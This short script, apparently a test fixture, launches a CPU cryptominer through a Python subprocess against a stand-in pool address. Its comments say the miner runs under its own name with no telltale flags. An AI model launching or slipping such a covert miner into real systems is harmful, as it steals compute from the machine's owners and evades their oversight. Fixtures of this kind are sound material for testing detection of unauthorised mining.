# a miner of the image under its own name, started by a script in python, without flags that tell; the pool answers errors
#bind served/bin:/opt/miner
#pool 198.51.100.69:3333:err
timeout 14 python3 -c 'import subprocess; subprocess.run(["/opt/miner/cpuminer","198.51.100.69","3333","700","99"])'
